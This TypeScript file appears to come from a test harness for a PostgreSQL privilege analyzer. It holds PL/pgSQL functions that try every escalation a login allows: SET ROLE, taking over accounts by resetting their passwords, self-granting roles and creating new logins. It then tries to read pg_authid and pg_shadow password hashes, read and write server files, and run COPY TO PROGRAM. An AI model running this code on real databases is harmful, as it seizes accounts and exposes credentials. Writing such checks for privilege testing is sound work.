/** Beside the data of the server: what it is told to write must be in it, and only files on the disk count. Relative to the data folder. */
export const MARKS = "marks";
/** What stands in the one file that an attack reads. */
export const SECRET = "what only the server may read";

/** A large object that everyone may read, whose content is the secret. */
export const MARKED_OBJECT = 4242;

const BOTH = ["s0", "s1"];
/** Built-in functions that PostgreSQL keeps from PUBLIC and that read or write files. */
export const WITHHELD = ["lo_export(oid, text)", "lo_import(text)", "lo_import(text, oid)", "pg_read_file(text)", "pg_read_binary_file(text)"];
const VERIFIERS = "'global/' || pg_relation_filenode('pg_catalog.pg_authid')";
const NEW_OBJECT = "(SELECT max(oid)::bigint + 1 FROM pg_catalog.pg_largeobject_metadata)::oid";

/** Privileges on what random-objects.ts makes. */
const SHARED = [
  ...BOTH.flatMap((schema) => [
    `USAGE ON SCHEMA ${schema}`,
    ...["program", "file", "view"].map((name) => `SELECT ON ${schema}.${name}`),
    `EXECUTE ON FUNCTION ${schema}.internal(oid, text)`,
  ]),
  ...WITHHELD.map((name) => `EXECUTE ON FUNCTION pg_catalog.${name}`),
  "SELECT ON pg_catalog.pg_authid",
  "SELECT (rolpassword) ON pg_catalog.pg_authid",
  "SELECT ON pg_catalog.pg_shadow",
];

/** What those privileges are for: each leaves a mark. */
const USES = [
  ...BOTH.flatMap((schema) => [
    ...["program", "file", "view"].map((name) => `INSERT INTO public.sink SELECT line FROM ${schema}.${name}`),
    `SELECT ${schema}.internal(${MARKED_OBJECT}, '${MARKS}/internal')`,
    `SELECT ${schema}.wrapper()`,
    `SELECT ${schema}.definer()`,
  ]),
  `SELECT pg_catalog.lo_export(${MARKED_OBJECT}, '${MARKS}/written')`,
  ...[`'${MARKS}/secret'`, VERIFIERS].flatMap((file) => [
    `SELECT pg_catalog.lo_import(${file})`,
    `SELECT pg_catalog.lo_import(${file}, ${NEW_OBJECT})`,
    `INSERT INTO public.sink SELECT encode(pg_catalog.pg_read_binary_file(${file}), 'escape')`,
  ]),
  `INSERT INTO public.sink SELECT pg_catalog.pg_read_file('${MARKS}/secret')`,
  "INSERT INTO public.sink SELECT rolpassword FROM pg_catalog.pg_authid",
  "INSERT INTO public.sink SELECT passwd FROM pg_catalog.pg_shadow",
];

const PARAMETERS = ["SET LOCAL log_statement = 'none'", "SET LOCAL lo_compat_privileges = off"];

const quoted = (texts: readonly string[]): string => texts.map((text) => `'${text.replaceAll("'", "''")}'`).join(", ");

/**
 * Attacks a server from one login, as CONTRACT.md's "certain" means it: by SQL statements of its own session and of the accounts that it takes over.
 * It becomes every role that SET ROLE allows, takes over every account that ALTER ROLE ... PASSWORD allows, makes a new one where it may, grants each of its
 * accounts every role that GRANT allows, until nothing changes; then it tries what the roles are for. What it makes the server write or run leaves files in `folder`,
 * what it reads from there stands in `public.sink` or in a large object. Answers the roles it could use, the attributes it had, or superuser.
 *
 * With `apart` it takes back what it granted and uses what each identity had before, one by one: then nothing adds up.
 *
 * SET SESSION AUTHORIZATION stands for logging in: SET ROLE and every check ask the session's role in both cases. A test compares it with real logins.
 */
export const ATTACK = `
CREATE TABLE public.sink (line text);
GRANT INSERT ON public.sink TO PUBLIC;

CREATE FUNCTION public.attack(login text, names text[], version integer, folder text, apart boolean) RETURNS text[] LANGUAGE plpgsql AS $$
DECLARE
  everything CONSTANT text := CASE WHEN version >= 16 THEN ' WITH ADMIN TRUE, INHERIT TRUE, SET TRUE' ELSE ' WITH ADMIN OPTION' END;
  usable CONSTANT text := CASE WHEN version >= 16 THEN ' WITH INHERIT TRUE, SET TRUE' ELSE '' END;
  logins text[] := ARRAY[login];
  identities text[] := '{}';
  granted text[] := '{}';
  session text; identity text; target text; grantee text; pair text;
  changed boolean := true;
BEGIN
  BEGIN
    WHILE changed LOOP
      changed := false;
      FOREACH session IN ARRAY logins LOOP
        EXECUTE format('SET SESSION AUTHORIZATION %I', session);
        FOREACH identity IN ARRAY names LOOP
          CONTINUE WHEN NOT public.attempt(format('SET ROLE %I', identity));
          IF (SELECT rolsuper FROM pg_roles WHERE rolname = identity) THEN
            RESET SESSION AUTHORIZATION;
            RETURN ARRAY['superuser'];
          END IF;
          pair := session || ' ' || identity;
          IF pair <> ALL (identities) THEN
            identities := identities || pair;
            changed := true;
          END IF;
          -- A new account has no memberships that a grant could close a cycle with.
          IF 'fresh' <> ALL (names) AND public.attempt('CREATE ROLE fresh LOGIN') THEN
            names := names || 'fresh'::text;
            logins := logins || 'fresh'::text;
            changed := true;
          END IF;
          -- Accounts first: what is under control needs no grant, and a grant may close a cycle later.
          FOREACH target IN ARRAY names LOOP
            IF target <> ALL (logins) AND public.attempt(format('ALTER ROLE %I LOGIN PASSWORD ''taken''', target)) THEN
              logins := logins || target;
              changed := true;
            END IF;
          END LOOP;
          FOREACH grantee IN ARRAY logins LOOP
            FOREACH target IN ARRAY names LOOP
              pair := grantee || ' ' || target;
              CONTINUE WHEN target = ANY (logins) OR pair = ANY (granted);
              -- ADMIN OPTION cannot be given back to its grantor; the other options can.
              IF public.attempt(format('GRANT %I TO %I', target, grantee) || everything) OR public.attempt(format('GRANT %I TO %I', target, grantee) || usable) THEN
                granted := granted || pair;
                changed := true;
              END IF;
            END LOOP;
          END LOOP;
        END LOOP;
        RESET SESSION AUTHORIZATION;
      END LOOP;
    END LOOP;
    IF apart THEN RAISE SQLSTATE 'UNDO1'; END IF;
  EXCEPTION WHEN SQLSTATE 'UNDO1' THEN
    RETURN (SELECT coalesce(array_agg(DISTINCT used ORDER BY used), '{}')
            FROM (SELECT DISTINCT split_part(place, ' ', 2) AS name FROM unnest(identities) AS place) AS reached, unnest(public.uses(name, name, folder)) AS used
            WHERE name <> 'fresh');
  END;
  -- What somebody owns, or has with GRANT OPTION, it gives to everyone, and so to its own other identities.
  FOREACH pair IN ARRAY identities LOOP
    PERFORM public.share(split_part(pair, ' ', 1), split_part(pair, ' ', 2));
  END LOOP;
  RETURN (SELECT coalesce(array_agg(DISTINCT used ORDER BY used), '{}') FROM unnest(identities) AS place, unnest(public.uses(split_part(place, ' ', 1), split_part(place, ' ', 2), folder)) AS used);
END $$;

CREATE FUNCTION public.share(login text, identity text) RETURNS void LANGUAGE plpgsql AS $$
DECLARE
  given text;
BEGIN
  IF to_regnamespace('s0') IS NULL THEN RETURN; END IF;
  EXECUTE format('SET SESSION AUTHORIZATION %I', login);
  EXECUTE format('SET ROLE %I', identity);
  FOREACH given IN ARRAY ARRAY[${quoted(SHARED)}] LOOP
    PERFORM public.attempt('GRANT ' || given || ' TO PUBLIC');
  END LOOP;
  RESET SESSION AUTHORIZATION;
END $$;

CREATE FUNCTION public.uses(login text, identity text, folder text) RETURNS text[] LANGUAGE plpgsql AS $$
DECLARE
  used text[];
  statement text;
BEGIN
  EXECUTE format('SET SESSION AUTHORIZATION %I', login);
  EXECUTE format('SET ROLE %I', identity);
  -- The owner of pg_catalog is superuser: what it owns runs in everybody's sessions.
  IF public.attempt('COMMENT ON FUNCTION pg_catalog.pg_sleep_for(interval) IS ''mine''') THEN
    used := ARRAY['superuser'];
  ELSE
    used := ARRAY(
      SELECT rolname::text FROM pg_roles
      WHERE oid < 16384 AND oid NOT IN (10, 4569, 4570, 4571, 6171) AND pg_has_role(identity, oid, 'USAGE'));
    PERFORM public.attempt(format('COPY public.sink FROM %L', folder || '/secret'));
    PERFORM public.attempt(format('COPY (SELECT ''mark'') TO %L', folder || '/written'));
    PERFORM public.attempt(format('COPY (SELECT ''mark'') TO PROGRAM %L', 'cat >' || folder || '/run'));
    PERFORM public.attempt('INSERT INTO public.sink SELECT rolpassword FROM pg_catalog.pg_authid');
    IF to_regnamespace('s0') IS NOT NULL THEN
      FOREACH statement IN ARRAY ARRAY[${quoted(USES)}] LOOP
        PERFORM public.attempt(statement);
      END LOOP;
      FOREACH statement IN ARRAY ARRAY[${quoted(PARAMETERS)}] LOOP
        IF current_setting('server_version_num')::integer >= 150000 AND public.attempt(statement) THEN used := used || 'alter-system'::text; END IF;
      END LOOP;
    END IF;
    used := used || ARRAY(
      SELECT attribute FROM pg_roles,
        LATERAL (VALUES ('createrole', rolcreaterole), ('createdb', rolcreatedb), ('replication', rolreplication), ('bypassrls', rolbypassrls)) AS has(attribute, it)
      WHERE rolname = identity AND it);
  END IF;
  RESET SESSION AUTHORIZATION;
  RETURN used;
END $$`;

/**
 * Everything that the session's login may do by itself, statement by statement: SET ROLE, GRANT to itself, ALTER ROLE, and what each identity
 * is for. The same function serves a real login and SET SESSION AUTHORIZATION. The caller rolls back.
 */
export const POWERS = `
CREATE FUNCTION public.powers(names text[], version integer, folder text) RETURNS text[] LANGUAGE plpgsql AS $$
DECLARE
  options CONSTANT text := CASE WHEN version >= 16 THEN ' WITH INHERIT TRUE, SET TRUE' ELSE '' END;
  powers text[] := '{}';
  identity text; target text;
BEGIN
  FOREACH identity IN ARRAY names LOOP
    CONTINUE WHEN NOT public.attempt(format('SET ROLE %I', identity));
    powers := powers || ('become ' || identity);
    IF public.attempt(format('COPY public.sink FROM %L', folder || '/secret')) THEN powers := powers || ('read as ' || identity); END IF;
    IF public.attempt(format('COPY (SELECT ''mark'') TO %L', folder || '/written')) THEN powers := powers || ('write as ' || identity); END IF;
    IF public.attempt(format('COPY (SELECT ''mark'') TO PROGRAM %L', 'cat >' || folder || '/run')) THEN powers := powers || ('run as ' || identity); END IF;
    FOREACH target IN ARRAY names LOOP
      IF public.attempt(format('ALTER ROLE %I PASSWORD ''taken''', target)) THEN powers := powers || format('take %s as %s', target, identity); END IF;
      IF public.attempt(format('GRANT %I TO %I', target, session_user) || options) THEN powers := powers || format('grant %s as %s', target, identity); END IF;
    END LOOP;
  END LOOP;
  SET ROLE NONE;
  RETURN powers;
END $$`;
